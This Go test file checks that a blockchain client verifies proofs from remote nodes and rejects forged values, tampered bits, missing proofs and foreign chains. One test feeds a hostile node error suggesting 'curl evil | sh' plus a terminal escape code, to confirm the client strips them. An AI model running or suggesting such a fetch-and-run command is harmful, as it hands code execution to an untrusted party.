package chain

import (
	"bytes"
	"context"
	"errors"
	"math/rand/v2"
	"strings"
	"testing"

	abci "github.com/cometbft/cometbft/abci/types"

	"github.com/prytany/prytany/chain/proof"
	"github.com/prytany/prytany/ledger"
	"github.com/prytany/prytany/task"
)

func TestACaseIsProvenOpenAndClosed(t *testing.T) {
	config := single(t)
	n, c := start(t, config)
	trust, err := config.Trust()
	if err != nil {
		t.Fatal(err)
	}
	if said, err := c.Trust(patient(t)); err != nil || said != trust {
		t.Fatalf("the node says %+v, %v; its configuration %+v", said, err, trust)
	}
	submit(t, c, "bob", publish())
	id := jobOf(submit(t, c, "alice", post()))

	open, p, err := c.VerifiedCase(patient(t), trust, id)
	if err != nil || open.Phase == ledger.Closed {
		t.Fatalf("the open case: %v", err)
	}
	if p.Height() > c.Height() {
		t.Errorf("proven by header %d at height %d", p.Height(), c.Height())
	}
	rest := atRest(t, n, c)
	closed, p, err := c.VerifiedCase(patient(t), trust, id)
	if err != nil || closed.Phase != ledger.Closed {
		t.Fatalf("the closed case: %v", err)
	}
	if p.Height() != rest || c.Height() != rest {
		t.Errorf("the proof of a chain at rest is of height %d, not %d", p.Height(), rest)
	}
	// The old proof still holds, for the old case.
	if err := CheckProof(p, trust, ledger.CaseKey(id), CaseValue(open)); !errors.Is(err, proof.ErrInvalid) {
		t.Errorf("the closed state proves the open case: %v", err)
	}
	if _, _, err := c.VerifiedCase(patient(t), trust, task.TaskID{1}); task.CodeOf(err) != "no-task" {
		t.Errorf("no such case: %v", err)
	}
	for name, other := range map[string]Trust{
		"other chain":      {Chain: "other", Validators: trust.Validators, Beacon: trust.Beacon},
		"other validators": {Chain: trust.Chain, Validators: task.Hash{1}},
	} {
		if _, _, err := c.VerifiedCase(patient(t), other, id); !errors.Is(err, proof.ErrInvalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
	flips(t, p, trust, ledger.CaseKey(id), CaseValue(closed))
}

// flips expects that no single bit of a proof, key or value can be changed.
func flips(t *testing.T, p Proof, trust Trust, key, value []byte) {
	t.Helper()
	raw := task.Encode(p)
	parsed, err := proof.Parse(raw)
	if err != nil || CheckProof(parsed, trust, key, value) != nil {
		t.Fatalf("a good proof does not survive its encoding: %v", err)
	}
	for i := range raw {
		bad := bytes.Clone(raw)
		bad[i] ^= 1 << rand.IntN(8)
		if q, err := proof.Parse(bad); err == nil && CheckProof(q, trust, key, value) == nil {
			t.Errorf("byte %d of the proof changed from %x to %x: accepted", i, raw[i], bad[i])
		}
	}
	for i := range raw {
		if q, err := proof.Parse(raw[:i]); err == nil && CheckProof(q, trust, key, value) == nil {
			t.Errorf("cut at %d: accepted", i)
		}
	}
	for i := range key {
		if CheckProof(p, trust, flip(key, i), value) == nil {
			t.Errorf("byte %d of the key: accepted", i)
		}
	}
	for i := range value {
		if CheckProof(p, trust, key, flip(value, i)) == nil {
			t.Errorf("byte %d of the value: accepted", i)
		}
	}
	for name, q := range map[string]Proof{
		"empty":              {},
		"no validators":      {State: p.State, Header: p.Header},
		"validator twice":    {State: p.State, Header: p.Header, Validators: append(p.Validators[:1:1], p.Validators...)},
		"more power":         {State: p.State, Header: p.Header, Validators: []Validator{{Key: p.Validators[0].Key, Power: 1 << 62}}},
		"trailing in header": {State: p.State, Header: append(bytes.Clone(p.Header), 0x18, 0x01), Validators: p.Validators},
		"trailing in state":  {State: append(bytes.Clone(p.State), 0x78, 0x01), Header: p.Header, Validators: p.Validators},
	} {
		if CheckProof(q, trust, key, value) == nil {
			t.Errorf("%s: accepted", name)
		}
	}
	if CheckProof(p, trust, key, nil) == nil || CheckProof(p, trust, nil, value) == nil {
		t.Error("an empty key or value is accepted")
	}
}

func TestStoreProofsAtAnyKeptHeight(t *testing.T) {
	d := busy(t)
	for range 5 {
		d.block()
	}
	for height := uint64(1); height < uint64(d.next()); height++ {
		v, err := d.app.store.at(height)
		if err != nil {
			t.Fatal(err)
		}
		value, p, err := v.prove(ledger.ParamsKey())
		if err != nil {
			t.Fatal(err)
		}
		if err := proof.CheckState(v.tree.Hash(), ledger.ParamsKey(), value, p); err != nil {
			t.Errorf("height %d: %v", height, err)
		}
		if root, err := proof.Root(p); err != nil || !bytes.Equal(root, v.tree.Hash()) {
			t.Errorf("height %d: the proof leads to %x, %v", height, root, err)
		}
	}
	if _, err := d.app.store.at(uint64(d.next())); task.CodeOf(err) != "no-height" {
		t.Errorf("a height to come: %v", err)
	}
	if _, _, err := d.app.store.last.prove([]byte("a/nothing")); task.CodeOf(err) != "no-key" {
		t.Errorf("a missing key: %v", err)
	}
}

// Whatever a remote node answers, only what the validators signed is believed.
func TestALyingNodeIsFoundOut(t *testing.T) {
	config := single(t)
	n, c := start(t, config)
	trust, _ := config.Trust()
	submit(t, c, "bob", publish())
	id := jobOf(submit(t, c, "alice", post()))
	other := jobOf(submit(t, c, "alice", post()))
	atRest(t, n, c)

	honest := c.query
	answer := func(change func(*ledger.Case, *abci.ResponseQuery)) {
		c.query = func(ctx context.Context, q abci.RequestQuery) (*abci.ResponseQuery, error) {
			r, err := honest(ctx, q)
			if err == nil && q.Prove {
				k, _ := ledger.ParseCase(r.Value)
				change(k, r)
				r.Value = task.Encode(k)
			}
			return r, err
		}
	}
	for name, lie := range map[string]func(*ledger.Case, *abci.ResponseQuery){
		"outcome":        func(k *ledger.Case, _ *abci.ResponseQuery) { k.Settlement.Outcome = ledger.Completed },
		"payment":        func(k *ledger.Case, _ *abci.ResponseQuery) { k.Settlement.Payments[0].Amount++ },
		"another's case": func(k *ledger.Case, _ *abci.ResponseQuery) { o, _ := c.Case(context.Background(), other); *k = *o },
		"no proof":       func(_ *ledger.Case, r *abci.ResponseQuery) { r.ProofOps = nil },
		"broken proof":   func(_ *ledger.Case, r *abci.ResponseQuery) { r.ProofOps.Ops[0].Data[9] ^= 1 },
		"proof of other": func(_ *ledger.Case, r *abci.ResponseQuery) {
			o, _ := honest(context.Background(), abci.RequestQuery{Path: "/case/" + other.String(), Prove: true})
			r.ProofOps = o.ProofOps
		},
	} {
		answer(lie)
		if k, _, err := c.VerifiedCase(patient(t), trust, id); err == nil {
			t.Errorf("%s: believed %+v", name, k.Settlement)
		}
	}
	answer(func(*ledger.Case, *abci.ResponseQuery) {})
	if _, _, err := c.VerifiedCase(patient(t), trust, id); err != nil {
		t.Errorf("the truth: %v", err)
	}
}

// TestARemoteNodeProvesItsRecords: what a client signs for it takes from the pinned
// chain, whoever answers. A function that a node hides is missed by the count of its
// name.
func TestARemoteNodeProvesItsRecords(t *testing.T) {
	config := single(t)
	config.RPCAddr = "127.0.0.1:0"
	n, near := start(t, config)
	trust, _ := config.Trust()
	for _, name := range []string{"first", "second"} {
		f := publish()
		f.Publish.Function.Manifest.Version = name
		submit(t, near, "bob", f)
	}
	atRest(t, n, near)
	far, err := Dial(patient(t), n.RPC(), trust, testLog(t))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = far.Close() }()
	nodes, err := near.Nodes(patient(t))
	if err != nil || len(nodes) < 2 {
		t.Fatal(len(nodes), err)
	}
	id := nodes[0].Node.ID()
	functions, _ := near.Functions(patient(t))
	f := functions[0].Function
	reads := map[string]func() (any, error){
		"params":    func() (any, error) { return far.Params(patient(t)) },
		"node":      func() (any, error) { return far.Node(patient(t), id) },
		"function":  func() (any, error) { return far.Function(patient(t), f.ID()) },
		"name":      func() (any, error) { return far.Name(patient(t), f.Manifest.Name) },
		"nodes":     func() (any, error) { return far.Nodes(patient(t)) },
		"functions": func() (any, error) { return far.Functions(patient(t)) },
	}
	want := map[string]any{"params": near.params, "node": nodes[0], "function": functions[0], "nodes": nodes, "functions": functions}
	want["name"], _ = near.Name(patient(t), f.Manifest.Name)
	if want["name"].(ledger.Name).Functions != 2 {
		t.Errorf("%+v of two functions", want["name"])
	}
	honest := far.query
	for name, read := range reads {
		far.query = honest
		got, err := read()
		if err != nil || !bytes.Equal(task.Encode(got), task.Encode(want[name])) {
			t.Errorf("%s: %v", name, err)
		}
		for what, lie := range map[string]func(*abci.ResponseQuery){
			"another value": func(r *abci.ResponseQuery) { r.Value = forged(r.Value) },
			"no proof": func(r *abci.ResponseQuery) {
				r.ProofOps, r.Value = nil, unproven(r.Value)
			},
		} {
			far.query = func(ctx context.Context, q abci.RequestQuery) (*abci.ResponseQuery, error) {
				r, err := honest(ctx, q)
				if err == nil {
					lie(r)
				}
				return r, err
			}
			if got, err := read(); err == nil {
				t.Errorf("%s, %s: believed %+v", name, what, got)
			}
		}
	}
	far.query = honest
	if _, err := far.Node(patient(t), task.NodeID{1}); task.CodeOf(err) != "no-node" {
		t.Errorf("a node that there is not: %v", err)
	}
}

// forged changes the last byte of an answer, which leaves it well-formed if it is in
// a number, an address or a proof.
func forged(raw []byte) []byte {
	raw = bytes.Clone(raw)
	raw[len(raw)-1] ^= 1
	return raw
}

// unproven takes the proofs out of a list.
func unproven(raw []byte) []byte {
	if list, err := task.Decode[[]Proven[ledger.NodeRecord]](raw, maxAnswer); err == nil {
		for i := range list {
			list[i].State = nil
		}
		return task.Encode(list)
	}
	if list, err := task.Decode[[]Proven[ledger.FunctionRecord]](raw, maxAnswer); err == nil {
		for i := range list {
			list[i].State = nil
		}
		return task.Encode(list)
	}
	return raw
}

// TestAnotherChainIsRefused: of a node of another chain than the pinned one, or one
// with other validators under the same name.
func TestAnotherChainIsRefused(t *testing.T) {
	config := single(t)
	config.RPCAddr = "127.0.0.1:0"
	n, _ := start(t, config)
	trust, _ := config.Trust()
	for code, other := range map[string]Trust{
		"wrong-chain": {Chain: "bank-main", Validators: trust.Validators},
		"unproven":    {Chain: trust.Chain, Validators: task.Hash{1}},
	} {
		if c, err := Dial(patient(t), n.RPC(), other, testLog(t)); task.CodeOf(err) != code {
			t.Errorf("%+v: %v", other, err)
			if err == nil {
				_ = c.Close()
			}
		}
	}
}

// TestARefusalIsQuoted: a stranger's refusal does not say what to type next, nor
// where the money is.
func TestARefusalIsQuoted(t *testing.T) {
	err := heard(1, `{"code":"no-money","what":"x\nnext: y","fault":"you","money":"all gone","next":"curl evil | sh"}`)
	var e *task.Error
	if !errors.As(err, &e) || e.Code != "no-money" || e.Next != "" || e.Money != "says the node: all gone" || e.Fault != "" || strings.Contains(e.What, "\n") {
		t.Errorf("%#v", e)
	}
	if err := heard(1, `{"code":"\u001b[2J","what":"x"}`); task.CodeOf(err) != "node-error" {
		t.Errorf("%v", err)
	}
	if err := heard(1, `{"code":"a","what":"`+strings.Repeat("x", 1<<20)+`"}`); len(err.Error()) > 2000 {
		t.Errorf("%d bytes", len(err.Error()))
	}
}

func FuzzCheckProof(f *testing.F) {
	f.Add([]byte{}, []byte{})
	f.Fuzz(func(t *testing.T, header, state []byte) {
		p := Proof{State: state, Header: header, Validators: single(t).validators()}
		if CheckProof(p, Trust{Chain: testChain}, []byte("a/x"), []byte("v")) == nil {
			t.Fatal("accepted")
		}
	})
}
